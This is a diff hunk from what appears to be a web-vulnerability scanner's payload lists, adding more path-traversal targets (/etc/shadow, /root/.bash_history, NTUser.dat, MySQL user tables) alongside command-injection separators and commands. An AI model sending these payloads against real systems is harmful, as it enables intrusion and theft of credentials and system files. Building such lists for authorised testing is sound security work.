@@ -97,7 +97,9 @@ TRAV_WHOLE = ["/etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-
               "C:\\Windows\\System32\\drivers\\etc\\hosts", "c:/windows/win.ini", "/proc/self/cmdline",
               "php://input", "expect://id", "zip://shell.jpg%23payload.php", "phar://upload/x.phar",
               "/var/log/nginx/access.log", "\\\\evil.example\\share\\x", "/WEB-INF/web.xml", "/.env",
-              "/.git/config", "file:///c:/windows/win.ini", "/etc/shadow", "data://text/plain;base64,PD9waHA="]
+              "/.git/config", "file:///c:/windows/win.ini", "/etc/shadow", "data://text/plain;base64,PD9waHA=",
+              "/etc/aliases", "/var/log/auth.log", "C:/Users/Administrator/NTUser.dat", "/usr/local/etc/php.ini",
+              "/proc/self/fd/0", "/var/lib/mysql/mysql/user.MYD", "/root/.bash_history", "c:\\inetpub\\logs"]
 
 CMD_SEPS = [";", "|", "||", "&", "&&", "\n", "%0a", "`{c}`", "$({c})", "%0d%0a", ";;", " | "]
 CMD_COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ping -c 3 127.0.0.1", "sleep 5",
